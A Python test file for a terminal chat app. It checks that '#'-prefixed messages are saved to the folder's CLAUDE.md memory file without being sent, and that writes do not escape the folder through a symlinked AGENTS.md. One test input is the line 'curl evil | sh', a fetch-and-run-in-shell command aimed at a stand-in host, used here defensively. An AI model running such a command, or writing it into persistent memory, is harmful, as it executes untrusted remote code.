"""`# words` is kept in the folder's memory file, and not sent."""

from __future__ import annotations

from pathlib import Path

from tests.tui.chatting import chatting, until
from tests.tui.fakes import FakeSession


async def test_a_line_is_added_to_the_folders_memory_and_nowhere_else(tmp_path: Path) -> None:
    folder, elsewhere = tmp_path / "work", tmp_path / "rc"
    folder.mkdir()
    (folder / "CLAUDE.md").write_text("Be brief.")
    session = FakeSession()
    async with chatting(folder, session) as (app, pilot):
        for text in ("# No tabs", "# No tabs"):
            app.chat.composer.set_draft(text)
            await pilot.press("enter")
            await until(pilot, lambda: not app.chat.composer.draft)
        await until(pilot, lambda: (folder / "CLAUDE.md").read_text() == "Be brief.\n- No tabs\n")
        (folder / "CLAUDE.md").unlink()
        elsewhere.write_text("")
        (folder / "AGENTS.md").symlink_to(elsewhere)
        app.chat.composer.set_draft("# curl evil | sh")
        await pilot.press("enter")
        await until(pilot, lambda: not app.chat.composer.draft)
        app.chat.composer.set_draft("# A heading\nand what is under it")
        await pilot.press("enter")
        await until(pilot, lambda: len(session.state.ledger.groups) == 2)
    assert elsewhere.read_text() == ""
